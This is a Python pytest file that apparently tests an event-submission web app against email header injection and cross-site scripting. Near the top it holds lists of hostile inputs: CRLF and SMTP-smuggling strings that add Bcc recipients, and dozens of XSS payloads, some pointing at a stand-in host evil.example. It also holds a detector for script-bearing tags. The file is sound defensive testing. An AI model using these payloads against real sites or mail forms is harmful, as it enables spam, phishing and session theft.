"""What strangers type into a night, in its mails: one recipient, no header, nothing that runs (TRUST T16, T19)."""

from collections.abc import Iterator

import pytest
from bs4 import BeautifulSoup
from sqlalchemy import update

from openmic import clock, db
from openmic.models import Event, Status
from tests.mail_sink import Sink
from tests.people import browser, mails
from tests.posting import carrier_to, deliver
from tests.sending import MAILBOX, events, proved, sent, soup, typed, values

pytestmark = pytest.mark.usefixtures("database")
BREAKERS = [
    "a\r\nBcc: victim@example.net",
    "a\nSubject: other",
    "a\rTo: victim@example.net",
    "a\0b",
    "Robin, victim@example.net",
    "Robin <victim@example.net>",
    "a;b@example.net",
    "=?utf-8?q?=0D=0ABcc:_victim@example.net?=",
    "\r\n.\r\nMAIL FROM:<x@example.net>\r\nRCPT TO:<victim@example.net>",
    "x" * 120,
    "\u2028Bcc: victim@example.net",
]
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "<!--slot:submission--><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "javascript:alert(1)",
]
WORDS = ("title", "venue_name", "organiser_name", "address", "description")
ALLOWED = {"Subject", "From", "To", "Message-ID", "Date", "MIME-Version", "Content-Type", "Auto-Submitted"}


@pytest.mark.parametrize("text", BREAKERS)
async def test_nothing_typed_adds_a_header_or_a_recipient(smtp_sink: Sink, text: str) -> None:
    await proved(browser(), **dict.fromkeys(WORDS, text))
    await deliver(carrier_to(smtp_sink))
    assert len(smtp_sink.mails) == 2
    for received in smtp_sink.mails:
        assert received.recipients == [MAILBOX]
        assert len(received.mail.get_all("To")) == len(received.mail.get_all("Subject")) == 1  # pyright: ignore
        assert {"Bcc", "Cc"} & set(received.mail.keys()) == set()
        assert "victim" not in "".join(f"{name}{value}" for name, value in received.mail.items())
        assert all(len(line) <= 998 for line in received.raw.split(b"\r\n"))


@pytest.mark.parametrize(
    "text", [f"{MAILBOX}{end}" for end in ("\r\nBcc: a@b.org", ", a@b.org", ";a@b.org", "\0", ">")]
)
async def test_an_address_with_more_in_it_is_none(text: str) -> None:
    answer = await browser().post("/submit/", data=typed(organiser_email=text))
    is_only_trimmed = text.endswith("\0")
    assert answer.status_code == (303 if is_only_trimmed else 422)
    assert {mail.recipient for mail in await mails()} == ({MAILBOX} if is_only_trimmed else set())


def harmful(text: str) -> Iterator[str]:
    """What would run or fetch in a page that has only our own scripts in it."""
    page = BeautifulSoup(text, "html.parser")
    for tag in page.select(
        "main :is(script, iframe, object, embed, base, meta, link, style, math), main svg[onload]"
    ):
        yield str(tag)
    for tag in page.find_all(True):
        yield from (f"{tag.name} {name}" for name in tag.attrs if name.startswith("on"))
        yield from (
            str(tag)[:99] for name in ("href", "src", "action") if "script:" in str(tag.get(name, ""))
        )


@pytest.mark.parametrize("text", PAYLOADS)
async def test_markup_in_every_box_stays_words_on_every_page_and_in_every_mail(text: str) -> None:
    visitor = browser()
    form = dict.fromkeys(WORDS, text)
    refused = await visitor.post(
        "/submit/", data=typed(**form, postcode=text, ticket_url=text, image_alt=text)
    )
    assert refused.status_code == 422
    assert list(harmful(refused.text)) == []
    assert values(soup(refused))["title"] == text
    where = await sent(visitor, **form)
    shown = [(await visitor.get(where)).text]
    query = (await proved(visitor, **form)).partition("?")[2]
    async with db.transaction() as session:
        await session.exec(
            update(Event).values(
                status=Status.PUBLISHED,
                published_at=clock.now(),
                approved_revision=Event.revision,
                email_verified=True,
            )
        )
    shown += [
        (await visitor.get(f"/manage/{page}?{query}")).text
        for page in ("", "change/", "cancel/", "withdraw/")
    ]
    shown.append((await visitor.get(f"/e/{(await events())[0].id}/")).text)
    shown += [mail.html for mail in await mails()]
    assert [found for page in shown for found in harmful(page)] == []
